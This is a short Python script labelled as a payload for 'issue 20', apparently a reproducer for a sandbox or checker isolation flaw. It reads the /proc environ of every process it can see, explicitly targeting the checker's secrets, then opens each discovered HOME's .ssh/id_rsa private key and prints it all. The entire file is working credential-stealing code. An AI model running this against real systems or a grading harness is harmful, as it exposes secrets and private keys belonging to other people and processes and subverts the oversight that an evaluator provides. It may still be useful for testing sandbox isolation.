# Payload (issue 20): read the environment of every process it can see (the checker's is
# the prize: secrets, the real HOME), then HOME/.ssh/id_rsa, and print it all.
import os

for _pid in [os.getppid()] + [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        with open(f"/proc/{_pid}/environ", "rb") as _f:
            _env = _f.read()
        print(f"environ of {_pid}:", _env.decode("utf-8", "replace"))
        for _item in _env.split(b"\0"):
            if _item.startswith(b"HOME="):
                with open(os.path.join(_item[5:].decode(), ".ssh", "id_rsa")) as _key:
                    print("key:", _key.read())
    except OSError as _error:
        print(f"environ of {_pid}: {type(_error).__name__}")
